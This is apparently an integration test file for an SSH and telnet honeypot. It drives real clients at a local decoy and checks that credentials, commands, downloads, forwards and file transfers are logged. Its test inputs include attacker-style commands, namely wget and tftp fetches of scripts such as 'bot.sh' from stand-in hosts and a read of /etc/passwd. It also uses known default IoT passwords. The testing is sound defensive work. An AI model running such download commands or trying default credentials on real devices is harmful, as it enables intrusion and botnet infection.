//! The SSH and telnet honeypots against real clients: Debian's OpenSSH `ssh`
//! (driven by `sshpass`), `ssh-keyscan`, `ssh-keygen`, `nmap` and `telnet`
//! under `expect`. The tools are required (CI installs them); a missing one
//! fails the test.

mod common;

use std::process::{Command, Output};

use common::Decky;
use serde_json::Value;

fn tool(name: &str) -> Command {
    common::tool_with_timeout(name, "openssh-client sshpass expect telnet nmap", 30)
}

const SSH_OPTS: &[&str] = &[
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "ConnectTimeout=10",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "BatchMode=no",
];

/// `sshpass -p <pass> ssh … user@127.0.0.1 [cmd]`.
fn ssh(d: &Decky, user: &str, pass: &str, extra: &[&str], cmd: Option<&str>) -> Output {
    let mut c = tool("sshpass");
    c.args(["-p", pass, "ssh"])
        .args(SSH_OPTS)
        .args(["-p", &d.port.to_string()])
        .args(extra)
        .arg(format!("{user}@127.0.0.1"));
    if let Some(cmd) = cmd {
        c.arg(cmd);
    }
    c.output().expect("run ssh")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

/// The `details.<key>` text of every `kind` event, in order.
fn texts(events: &[Value], kind: &str, key: &str) -> Vec<String> {
    of_kind(events, kind)
        .iter()
        .map(|e| e["details"][key].as_str().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn wrong_password_is_denied_and_recorded() {
    let d = Decky::serve("ssh", None);
    let out = ssh(
        &d,
        "root",
        "hunter2",
        &["-o", "PubkeyAuthentication=no"],
        Some("id"),
    );
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("Permission denied"),
        "stderr: {}",
        text(&out.stderr)
    );
    let ev = d.session_events();
    let client = of_kind(&ev, "client");
    assert_eq!(client.len(), 1, "{ev:?}");
    assert!(client[0]["details"]["client_version"]
        .as_str()
        .is_some_and(|v| v.starts_with("SSH-2.0-OpenSSH_")));
    let hassh = client[0]["details"]["fingerprint"]
        .as_str()
        .unwrap_or_default();
    assert!(
        hassh.starts_with("hassh:") && hassh.len() == 6 + 32,
        "{hassh}"
    );
    let auth = of_kind(&ev, "auth");
    assert!(!auth.is_empty());
    assert_eq!(auth[0]["details"]["username"], "root");
    assert_eq!(auth[0]["details"]["password"], "hunter2");
    assert_eq!(auth[0]["details"]["method"], "password");
    assert_eq!(auth[0]["details"]["accepted"], false);
}

#[test]
fn accepted_login_runs_commands_and_records_urls() {
    let d = Decky::serve("ssh", Some(r#"{"users": "root:toor"}"#));
    let out = ssh(
        &d,
        "root",
        "toor",
        &["-o", "PubkeyAuthentication=no"],
        Some("uname -a; id; wget http://example.invalid/x.sh"),
    );
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("Linux decoy-host 5.15.0-91-generic"),
        "stdout: {stdout} stderr: {}",
        text(&out.stderr)
    );
    assert!(stdout.contains("uid=0(root) gid=0(root) groups=0(root)"));
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(
        auth.last().map(|a| &a["details"]["accepted"]),
        Some(&Value::Bool(true))
    );
    let exec = of_kind(&ev, "exec");
    assert_eq!(
        exec[0]["details"]["command"],
        "uname -a; id; wget http://example.invalid/x.sh"
    );
    let cmds: Vec<_> = texts(&ev, "command", "command");
    assert_eq!(cmds, ["uname -a", "id", "wget http://example.invalid/x.sh"]);
    let urls = of_kind(&ev, "url");
    assert_eq!(urls.len(), 1);
    assert_eq!(urls[0]["details"]["url"], "http://example.invalid/x.sh");
}

#[test]
fn every_cipher_and_kex_completes() {
    let d = Decky::serve("ssh", Some(r#"{"accept": "any"}"#));
    for (opt, alg) in [
        ("Ciphers", "chacha20-poly1305@openssh.com"),
        ("Ciphers", "aes128-gcm@openssh.com"),
        ("Ciphers", "aes256-gcm@openssh.com"),
        ("Ciphers", "aes128-ctr"),
        ("Ciphers", "aes192-ctr"),
        ("Ciphers", "aes256-ctr"),
        ("KexAlgorithms", "curve25519-sha256"),
        ("KexAlgorithms", "curve25519-sha256@libssh.org"),
        ("KexAlgorithms", "ecdh-sha2-nistp256"),
        ("KexAlgorithms", "ecdh-sha2-nistp384"),
        ("KexAlgorithms", "diffie-hellman-group14-sha256"),
        ("KexAlgorithms", "diffie-hellman-group16-sha512"),
        ("KexAlgorithms", "diffie-hellman-group18-sha512"),
    ] {
        let o = format!("{opt}={alg}");
        let out = ssh(
            &d,
            "admin",
            "x",
            &["-o", &o, "-o", "PubkeyAuthentication=no"],
            Some("whoami"),
        );
        assert_eq!(text(&out.stdout), "admin\n", "{alg}: {}", text(&out.stderr));
        let _ = d.session_events();
    }
    // The MACs, with a CTR cipher (an AEAD needs none).
    for mac in [
        "hmac-sha2-256-etm@openssh.com",
        "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1-etm@openssh.com",
        "hmac-sha2-256",
        "hmac-sha2-512",
        "hmac-sha1",
    ] {
        let o = format!("MACs={mac}");
        let extra = [
            "-c",
            "aes128-ctr",
            "-o",
            &o,
            "-o",
            "PubkeyAuthentication=no",
        ];
        let out = ssh(&d, "admin", "x", &extra, Some("whoami"));
        assert_eq!(text(&out.stdout), "admin\n", "{mac}: {}", text(&out.stderr));
        let _ = d.session_events();
    }
}

/// A scratch directory of this test process, removed on drop.
struct Scratch(std::path::PathBuf);

impl Scratch {
    fn new(name: &str) -> Scratch {
        let p = std::env::temp_dir().join(format!("ssh12-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).expect("scratch dir");
        Scratch(p)
    }

    fn path(&self, f: &str) -> String {
        self.0.join(f).display().to_string()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// `ssh-keygen -t ed25519` into `dir/name`; returns the `SHA256:` fingerprint of its public key.
fn keygen(dir: &Scratch, name: &str) -> String {
    let key = dir.path(name);
    let out = tool("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "it", "-f", &key])
        .output()
        .expect("ssh-keygen");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = tool("ssh-keygen")
        .args(["-l", "-f", &format!("{key}.pub")])
        .output()
        .expect("ssh-keygen -l");
    text(&out.stdout)
        .split_whitespace()
        .nth(1)
        .expect("a fingerprint")
        .to_owned()
}

#[test]
fn a_public_key_attempt_records_its_fingerprint() {
    let dir = Scratch::new("pk");
    let fp = keygen(&dir, "id_ed25519");
    let d = Decky::serve("ssh", Some(r#"{"accept": "any"}"#));
    let out = tool("ssh")
        .args(SSH_OPTS)
        .args(["-p", &d.port.to_string(), "-i", &dir.path("id_ed25519")])
        .args([
            "-o",
            "IdentitiesOnly=yes",
            "-o",
            "PasswordAuthentication=no",
        ])
        .args([
            "-o",
            "KbdInteractiveAuthentication=no",
            "-o",
            "BatchMode=yes",
        ])
        .args(["deploy@127.0.0.1", "id"])
        .output()
        .expect("ssh");
    assert!(
        text(&out.stderr).contains("Permission denied (publickey,password)"),
        "{}",
        text(&out.stderr)
    );
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(auth.len(), 1, "{ev:?}");
    let det = &auth[0]["details"];
    assert_eq!(det["method"], "publickey");
    assert_eq!(det["username"], "deploy");
    assert_eq!(det["key_type"], "ssh-ed25519");
    assert_eq!(det["key_fingerprint"], Value::from(fp));
    assert_eq!(det["accepted"], false);
}

#[test]
fn keyscan_sees_the_configured_host_key() {
    let dir = Scratch::new("hk");
    let fp = keygen(&dir, "host");
    let d = Decky::serve_with_env("ssh", None, &[("DECNET_SSH_HOST_KEY", &dir.path("host"))]);
    let out = tool("ssh-keyscan")
        .args([
            "-T",
            "10",
            "-t",
            "ed25519",
            "-p",
            &d.port.to_string(),
            "127.0.0.1",
        ])
        .output()
        .expect("ssh-keyscan");
    let line = text(&out.stdout);
    assert!(
        line.contains("ssh-ed25519 "),
        "{line} {}",
        text(&out.stderr)
    );
    let scanned = dir.path("scanned");
    std::fs::write(&scanned, &line).expect("write");
    let out = tool("ssh-keygen")
        .args(["-l", "-f", &scanned])
        .output()
        .expect("ssh-keygen");
    assert!(
        text(&out.stdout).contains(&fp),
        "{} vs {fp}",
        text(&out.stdout)
    );
    // The banner keyscan saw is the persona's.
    let ev = d.session_events();
    assert!(of_kind(&ev, "client")[0]["details"]["client_version"]
        .as_str()
        .is_some_and(|v| v.starts_with("SSH-2.0-OpenSSH")));
}

#[test]
fn nmap_sees_openssh_8_9_on_ubuntu() {
    let d = Decky::serve("ssh", None);
    let out = tool("nmap")
        .args(["-Pn", "-sV", "-p", &d.port.to_string()])
        .args(["--script", "ssh2-enum-algos,ssh-hostkey", "127.0.0.1"])
        .output()
        .expect("nmap");
    let report = text(&out.stdout);
    assert!(
        report.contains("OpenSSH 8.9p1 Ubuntu 3ubuntu0.6"),
        "{report}"
    );
    for alg in [
        "curve25519-sha256",
        "kex-strict-s-v00@openssh.com",
        "ssh-ed25519",
        "chacha20-poly1305@openssh.com",
        "aes256-gcm@openssh.com",
        "hmac-sha2-256-etm@openssh.com",
        "aes128-ctr",
        "diffie-hellman-group14-sha256",
    ] {
        assert!(report.contains(alg), "{alg} missing: {report}");
    }
    // ssh-hostkey does its own DH key exchange (group14, aes-ctr, hmac-sha1 offered).
    let hostkey = report.split("ssh-hostkey:").nth(1).unwrap_or_default();
    assert!(hostkey.contains("(ED25519)"), "{report}");
}

/// Runs an `expect` script; its output.
fn expect(dir: &Scratch, script: &str) -> String {
    let path = dir.path("script.exp");
    std::fs::write(&path, script).expect("write script");
    let out = tool("expect").arg(&path).output().expect("expect");
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(out.status.success(), "expect failed: {all}");
    all
}

#[test]
fn an_interactive_ssh_session_reaches_the_shell() {
    let dir = Scratch::new("pty");
    let d = Decky::serve("ssh", Some(r#"{"users": "admin:admin"}"#));
    let script = format!(
        r##"set timeout 15
spawn sshpass -p admin ssh -tt {opts} -o PubkeyAuthentication=no -p {port} admin@127.0.0.1
expect {{
    "admin@decoy-host:~$ " {{}}
    timeout {{ exit 1 }}
}}
send "cat /etc/passwd | grep admin\r"
expect {{
    "admin:x:1000:1000" {{}}
    timeout {{ exit 2 }}
}}
send "tftp -g -r bot.sh 203.0.113.5\r"
expect "$ "
send "exit\r"
expect {{
    "logout" {{}}
    timeout {{ exit 3 }}
}}
expect eof
"##,
        opts = SSH_OPTS.join(" "),
        port = d.port
    );
    let out = expect(&dir, &script);
    assert!(out.contains("Welcome to Ubuntu 22.04.3 LTS"), "{out}");
    let ev = d.session_events();
    let cmds: Vec<_> = texts(&ev, "command", "command");
    assert_eq!(
        cmds,
        [
            "cat /etc/passwd | grep admin",
            "tftp -g -r bot.sh 203.0.113.5",
            "exit"
        ]
    );
    assert_eq!(
        of_kind(&ev, "url")[0]["details"]["url"],
        "tftp://203.0.113.5/bot.sh"
    );
    let disc = ev.last().expect("disconnect");
    assert_eq!(disc["details"]["term"], "xterm");
}

#[test]
fn telnet_under_expect_reaches_the_shell_with_accept_any() {
    let dir = Scratch::new("telnet");
    let d = Decky::serve("telnet", Some(r#"{"accept": "any"}"#));
    let script = format!(
        r##"set timeout 15
spawn telnet 127.0.0.1 {port}
expect {{
    "decoy-host login: " {{}}
    timeout {{ exit 1 }}
}}
send "root\r"
expect "Password: "
send "letmein\r"
expect {{
    "root@decoy-host:~# " {{}}
    timeout {{ exit 2 }}
}}
send "id; wget http://example.invalid/t.sh\r"
expect {{
    "uid=0(root)" {{}}
    timeout {{ exit 3 }}
}}
expect "# "
send "exit\r"
expect eof
"##,
        port = d.port
    );
    let out = expect(&dir, &script);
    assert!(out.contains("unable to resolve host address"), "{out}");
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(auth[0]["details"]["username"], "root");
    assert_eq!(auth[0]["details"]["password"], "letmein");
    assert_eq!(auth[0]["details"]["accepted"], true);
    assert_eq!(of_kind(&ev, "command").len(), 3);
    assert_eq!(
        of_kind(&ev, "url")[0]["details"]["url"],
        "http://example.invalid/t.sh"
    );
}

#[test]
fn forwards_sftp_and_scp_are_recorded_and_refused() {
    let dir = Scratch::new("fwd");
    let d = Decky::serve("ssh", Some(r#"{"accept": "any"}"#));
    let port = d.port.to_string();
    // ssh -W opens a direct-tcpip channel at once.
    let out = ssh(
        &d,
        "root",
        "x",
        &[
            "-o",
            "PubkeyAuthentication=no",
            "-W",
            "example.invalid:3306",
        ],
        None,
    );
    assert!(
        text(&out.stderr).contains("stdio forwarding failed"),
        "{}",
        text(&out.stderr)
    );
    let ev = d.session_events();
    let fwd = of_kind(&ev, "forward");
    assert_eq!(fwd.len(), 1, "{ev:?}");
    assert_eq!(fwd[0]["details"]["host"], "example.invalid");
    assert_eq!(fwd[0]["details"]["port"], 3306);
    assert_eq!(fwd[0]["details"]["direction"], "local");

    // sftp asks for the sftp subsystem.
    let out = tool("sshpass")
        .args(["-p", "x", "sftp", "-P", &port])
        .args(SSH_OPTS)
        .args(["-o", "PubkeyAuthentication=no", "root@127.0.0.1"])
        .output()
        .expect("sftp");
    assert!(!out.status.success());
    let ev = d.session_events();
    let ft = of_kind(&ev, "file_transfer");
    assert_eq!(ft[0]["details"]["method"], "sftp", "{ev:?}");

    // Legacy scp (-O) runs `scp -t` as an exec request.
    let file = dir.path("payload.sh");
    std::fs::write(&file, "#!/bin/sh\n").expect("write");
    let out = tool("sshpass")
        .args(["-p", "x", "scp", "-O", "-P", &port])
        .args(SSH_OPTS)
        .args([
            "-o",
            "PubkeyAuthentication=no",
            &file,
            "root@127.0.0.1:/tmp/",
        ])
        .output()
        .expect("scp");
    assert!(!out.status.success());
    let ev = d.session_events();
    let ft = of_kind(&ev, "file_transfer");
    assert_eq!(ft[0]["details"]["method"], "scp", "{ev:?}");
    assert_eq!(ft[0]["details"]["command"], "scp -t /tmp/");
}

#[test]
fn six_failures_then_too_many_authentication_failures() {
    let dir = Scratch::new("maxauth");
    let d = Decky::serve("ssh", None);
    let mut c = tool("ssh");
    c.args(SSH_OPTS)
        .args(["-p", &d.port.to_string(), "-o", "IdentitiesOnly=yes"])
        .args(["-o", "PasswordAuthentication=no", "-o", "BatchMode=yes"])
        .args(["-o", "KbdInteractiveAuthentication=no"]);
    for i in 0..8 {
        let name = format!("k{i}");
        keygen(&dir, &name);
        c.args(["-i", &dir.path(&name)]);
    }
    let out = c.args(["root@127.0.0.1", "id"]).output().expect("ssh");
    assert!(
        text(&out.stderr).contains("Too many authentication failures"),
        "{}",
        text(&out.stderr)
    );
    let ev = d.session_events();
    assert_eq!(of_kind(&ev, "auth").len(), 6, "{ev:?}");
}

#[test]
fn after_n_lets_a_source_in_on_its_next_attempt() {
    let d = Decky::serve("ssh", Some(r#"{"accept": "after:2"}"#));
    let mut accepted = Vec::new();
    for pass in ["123456", "password", "qwerty"] {
        let out = ssh(
            &d,
            "root",
            pass,
            &["-o", "PubkeyAuthentication=no"],
            Some("whoami"),
        );
        accepted.push(out.status.success());
        let ev = d.session_events();
        let auth = of_kind(&ev, "auth");
        assert_eq!(auth[0]["details"]["password"], pass);
        assert_eq!(auth[0]["details"]["accepted"], out.status.success());
    }
    assert_eq!(accepted, [false, false, true]);
}

/// The IoT archetype as decnet-docker starts its telnet service.
const IOT: &[(&str, &str)] = &[
    ("DECNET_ARCHETYPE", "iot-device"),
    ("DECNET_OS", "embedded"),
];

#[test]
fn nmap_names_busybox_telnetd_on_the_iot_persona() {
    let d = Decky::serve_with_env("telnet", None, IOT);
    let out = tool("nmap")
        .args(["-Pn", "-n", "-sV", "-p", &d.port.to_string(), "127.0.0.1"])
        .output()
        .expect("nmap");
    let said = text(&out.stdout);
    let line = format!("{}/tcp open  telnet  BusyBox telnetd", d.port);
    assert!(said.contains(&line), "{said}");
    assert!(said.contains("Host: decoy-host"), "{said}");
    assert!(!said.contains("NSCA"), "{said}");
}

#[test]
fn telnet_under_expect_logs_into_the_iot_persona() {
    let dir = Scratch::new("telnet-iot");
    let d = Decky::serve_with_env("telnet", Some(r#"{"accept": "any"}"#), IOT);
    let script = format!(
        r##"set timeout 15
spawn telnet 127.0.0.1 {port}
expect {{
    "decoy-host login: " {{}}
    timeout {{ exit 1 }}
}}
send "root\r"
expect "Password: "
send "xc3511\r"
expect {{
    "# " {{}}
    timeout {{ exit 2 }}
}}
send "exit\r"
expect eof
"##,
        port = d.port
    );
    let out = expect(&dir, &script);
    assert!(
        out.contains("BusyBox v1.31.1 () built-in shell (ash)"),
        "{out}"
    );
    assert!(!out.contains("Welcome to Ubuntu"), "{out}");
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(auth[0]["details"]["username"], "root");
    assert_eq!(auth[0]["details"]["password"], "xc3511");
    assert_eq!(auth[0]["details"]["accepted"], true);
}
